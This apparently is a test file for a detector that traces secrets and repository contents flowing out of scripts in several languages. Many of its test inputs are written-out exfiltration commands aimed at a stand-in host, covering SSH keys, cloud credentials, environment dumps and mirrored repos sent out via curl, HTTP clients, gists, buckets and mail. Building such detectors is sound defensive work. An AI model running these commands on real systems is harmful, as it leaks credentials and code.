import { describe, expect, it } from 'vitest';
import { followText, type DialectName } from '../../../src/behaviour/text-flow/index.js';

const u = 'https://collect.test/a';

/** `source → part`, once each. */
function flows(dialect: DialectName, text: string): string[] {
  return [
    ...new Set(
      followText(text, dialect).map(({ source, sink }) => `${source.kind} → ${sink.part}`),
    ),
  ].sort();
}

describe('a repository is followed through text', () => {
  it.each<[DialectName, string]>([
    ['shell', `git -c core.hooksPath=/dev/null \\\n  push --quiet --mirror ${u}.git`],
    ['shell', `host="mirror.collect.test"\ngit push "https://$host/$(id).git" "+refs/*:refs/*" &`],
    ['shell', `git remote add backup ${u}.git\ngit push backup --all`],
    ['shell', `hg push ${u}`],
    ['shell', 'git push backup@collect.test:all.git HEAD'],
    ['shell', `git archive HEAD | curl --data-binary @- ${u}`],
    ['shell', `f=$(mktemp)\ngit bundle create "$f" --all\ncurl -T "$f" ${u}`],
    ['powershell', `$to = '${u}/{0}.git' -f $k\nStart-Process git -ArgumentList @('push', $to)`],
    ['powershell', `& git.exe push --all '${u}.git'`],
    ['csharp', `Process.Start("git", "push --mirror ${u}.git");`],
    ['python', `subprocess.run(["git", "push", "${u}.git"])`],
    ['javascript', `execSync('git push --all ${u}.git')`],
  ])('%s: %s', (dialect, text) => {
    expect(flows(dialect, text)).toEqual(['repository → body']);
  });

  it.each<[DialectName, string]>([
    ['shell', 'git push origin v1.2.3'],
    ['shell', 'git push "https://x:$TOKEN@github.com/$REPOSITORY.git" HEAD'],
    ['shell', `git fetch ${u}.git`],
    ['shell', `git push "$REMOTE" --all`],
    ['shell', `echo "git push ${u}.git"`],
    ['shell', `git archive -o "$f" HEAD\ncurl ${u}`],
    ['powershell', "git push origin 'release/1.2.3'"],
    ['csharp', `Process.Start("git", "clone ${u}.git");`],
    ['javascript', `list.push('${u}'); execSync('git status')`],
  ])('stays quiet: %s: %s', (dialect, text) => {
    expect(flows(dialect, text)).toEqual([]);
  });
});

describe('a secret is followed through text', () => {
  it.each<[DialectName, string, string]>([
    [
      'csharp',
      'environment-all → body',
      `var t = new StringBuilder(); foreach (DictionaryEntry e in Environment.GetEnvironmentVariables()) { t.Append(e.Key); } new HttpClient().PostAsync("${u}", new StringContent(t.ToString()));`,
    ],
    [
      'csharp',
      'credential-file → body',
      `static string Read() { return File.ReadAllText(Path.Combine(home, ".aws", "credentials")); } static void Send(string text) { client.UploadString("${u}", text); } static void Go() { var keys = Read(); Send(keys); }`,
    ],
    [
      'csharp',
      'credential-file → body',
      `var r = WebRequest.Create("${u}"); var s = r.GetRequestStream(); var k = File.ReadAllBytes("/home/a/.ssh/id_rsa"); s.Write(k, 0, k.Length);`,
    ],
    [
      'visualbasic',
      'credential-file → body',
      `Dim k As String = File.ReadAllText("C:\\Users\\a\\.aws\\credentials")\nclient.UploadString("${u}", k)`,
    ],
    [
      'javascript',
      'environment-all → body',
      `const h=require('https').request({host:['collect','test'].join('.')});const g=Buffer.from(JSON.stringify({v:process.env})).toString('base64');h.end(g)`,
    ],
    [
      'javascript',
      'credential-file → body',
      `const read = (f) => fs.readFileSync(f); const k = read('/root/.npmrc'); fetch('${u}', { body: fs.readFileSync(os.homedir() + '/.npmrc') })`,
    ],
    [
      'python',
      'environment-all → body',
      `import os, requests\nd = dict(os.environ)\nrequests.post("${u}", json=d)`,
    ],
    [
      'powershell',
      'environment-all → body',
      `$all = Get-ChildItem env: | Out-String\nInvoke-RestMethod -Uri ${u} -Method Post -Body $all`,
    ],
    [
      'powershell',
      'credential-file → body',
      `$f = "$HOME\\.aws\\credentials"\n$t = Get-Content $f -Raw\n(New-Object Net.WebClient).UploadString('${u}', $t)`,
    ],
    ['shell', 'environment-all → body', `env | base64 | curl -d @- ${u}`],
    ['shell', 'credential-file → body', `K=$(cat ~/.ssh/id_rsa)\ncurl -d "$K" ${u}`],
    ['shell', 'process-memory → body', `cat /proc/1/environ | curl --data-binary @- ${u}`],
  ])('%s: %s', (dialect, flow, text) => {
    expect(flows(dialect, text)).toContain(flow);
  });

  it.each<[DialectName, string]>([
    [
      'csharp',
      `var all = Environment.GetEnvironmentVariables(); Console.WriteLine(all.Count); new HttpClient().PostAsync("${u}", new StringContent("x"));`,
    ],
    [
      'csharp',
      `// Environment.GetEnvironmentVariables()\nnew HttpClient().PostAsync("${u}", new StringContent("Environment.GetEnvironmentVariables()"));`,
    ],
    [
      'javascript',
      `const p = process.env.PORT; const k = fs.readFileSync('/root/.npmrc'); console.log(k); fetch('${u}')`,
    ],
    [
      'powershell',
      `$k = Get-Content "$HOME\\.aws\\credentials"\nWrite-Host $k\nInvoke-RestMethod -Uri ${u}`,
    ],
    ['shell', `cat ~/.ssh/id_rsa > /dev/null\ncurl ${u}`],
  ])('and not where it stays: %s', (dialect, text) => {
    expect(flows(dialect, text)).toEqual([]);
  });

  it('tells where it goes, and what happened on the way', () => {
    const [flow] = followText(`A=$(env | gzip | base64)\ncurl -d "$A" ${u}`, 'shell');
    expect(flow?.near).toContain(u);
    expect(flow?.transforms.map(({ text }) => text)).toEqual(
      expect.arrayContaining(['base64', 'compressed']),
    );
  });

  it('ends on texts that are made to be followed without end', () => {
    const chain = Array.from({ length: 4000 }, (_, at) => `a${at}=a${at + 1};`).join('');
    followText(`${chain}a4000=process.env;fetch(a0)`, 'javascript');
    followText(`${'f('.repeat(5000)}fetch(process.env)`, 'javascript');
    followText(`fetch(${'"a"+'.repeat(20_000)}process.env)`, 'javascript');
  });
});

describe('what programs leave with a service', () => {
  it.each<[DialectName, string]>([
    ['shell', 'printenv | gh gist create --public -'],
    ['shell', 'gh api -X POST repos/me/a/issues -f body="$(printenv | base64)"'],
    [
      'shell',
      'f=$(mktemp)\n{ id; printenv; } 2>/dev/null | base64 >"$f.b64"\nglab snippet create "$f.b64"',
    ],
    [
      'shell',
      'while read -r n; do printenv "$n"; env\ndone >>"$all"\naws s3 cp "$all" s3://some-bucket/a',
    ],
    ['shell', '(hostname; env) | tee "$log" >/dev/null\nscp "$log" me@collect.test:in/'],
    ['shell', 'env | gsutil cp - gs://some-bucket/a'],
    ['shell', 'env | mail -s report me@collect.test'],
    ['shell', 'env > "$f"\nrclone copyto "$f" drop:a'],
    ['powershell', 'Get-ChildItem env: | Out-File $f\ngh release upload v1 $f'],
    [
      'powershell',
      '$t = Get-ChildItem env:\nSet-Content -Path $f $t\n& gh api -X PUT repos/a/b -F "content=@$f"',
    ],
    [
      'powershell',
      `$t = Get-ChildItem env:\n[IO.File]::WriteAllText($f, $t)\nInvoke-RestMethod ${u} -InFile $f`,
    ],
    [
      'csharp',
      `var f = "a"; File.WriteAllText(f, Join(Environment.GetEnvironmentVariables())); client.UploadFile("${u}", f);`,
    ],
    [
      'javascript',
      `fs.writeFileSync(f, JSON.stringify(process.env)); fetch("${u}", { body: fs.createReadStream(f) });`,
    ],
  ])('%s: %s', (dialect, text) => {
    expect(flows(dialect, text)).toContain('environment-all → body');
  });

  it.each<[DialectName, string]>([
    ['shell', 'env > "$f"\ngh release upload v1 "$g"'],
    ['shell', '{ date; id; } >"$f"\nenv\ngh gist create "$f"'],
    ['shell', 'env | grep CI\naws s3 cp out.zip s3://some-bucket/a'],
    ['shell', 'env >"$f"\ngh auth status'],
    ['powershell', 'Get-ChildItem env: | Out-Null\ngh release upload v1 $f'],
  ])('stays quiet: %s: %s', (dialect, text) => {
    expect(flows(dialect, text)).toEqual([]);
  });

  it('knows buckets, machines and mailboxes by how they are written', () => {
    const near = (text: string) => followText(text, 'shell').flatMap((flow) => flow.near);
    expect(near('env | aws s3 cp - s3://some-bucket/a')).toContain(
      'https://some-bucket.s3.amazonaws.com/',
    );
    expect(near('f=a; env >"$f"; scp "$f" me@collect.test:in/')).toContain('tcp://collect.test/');
    expect(near('env | mail me@collect.test')).toContain('smtp://collect.test/');
    expect(near('env | gh gist create -')).toContain('https://api.github.com/');
  });
});
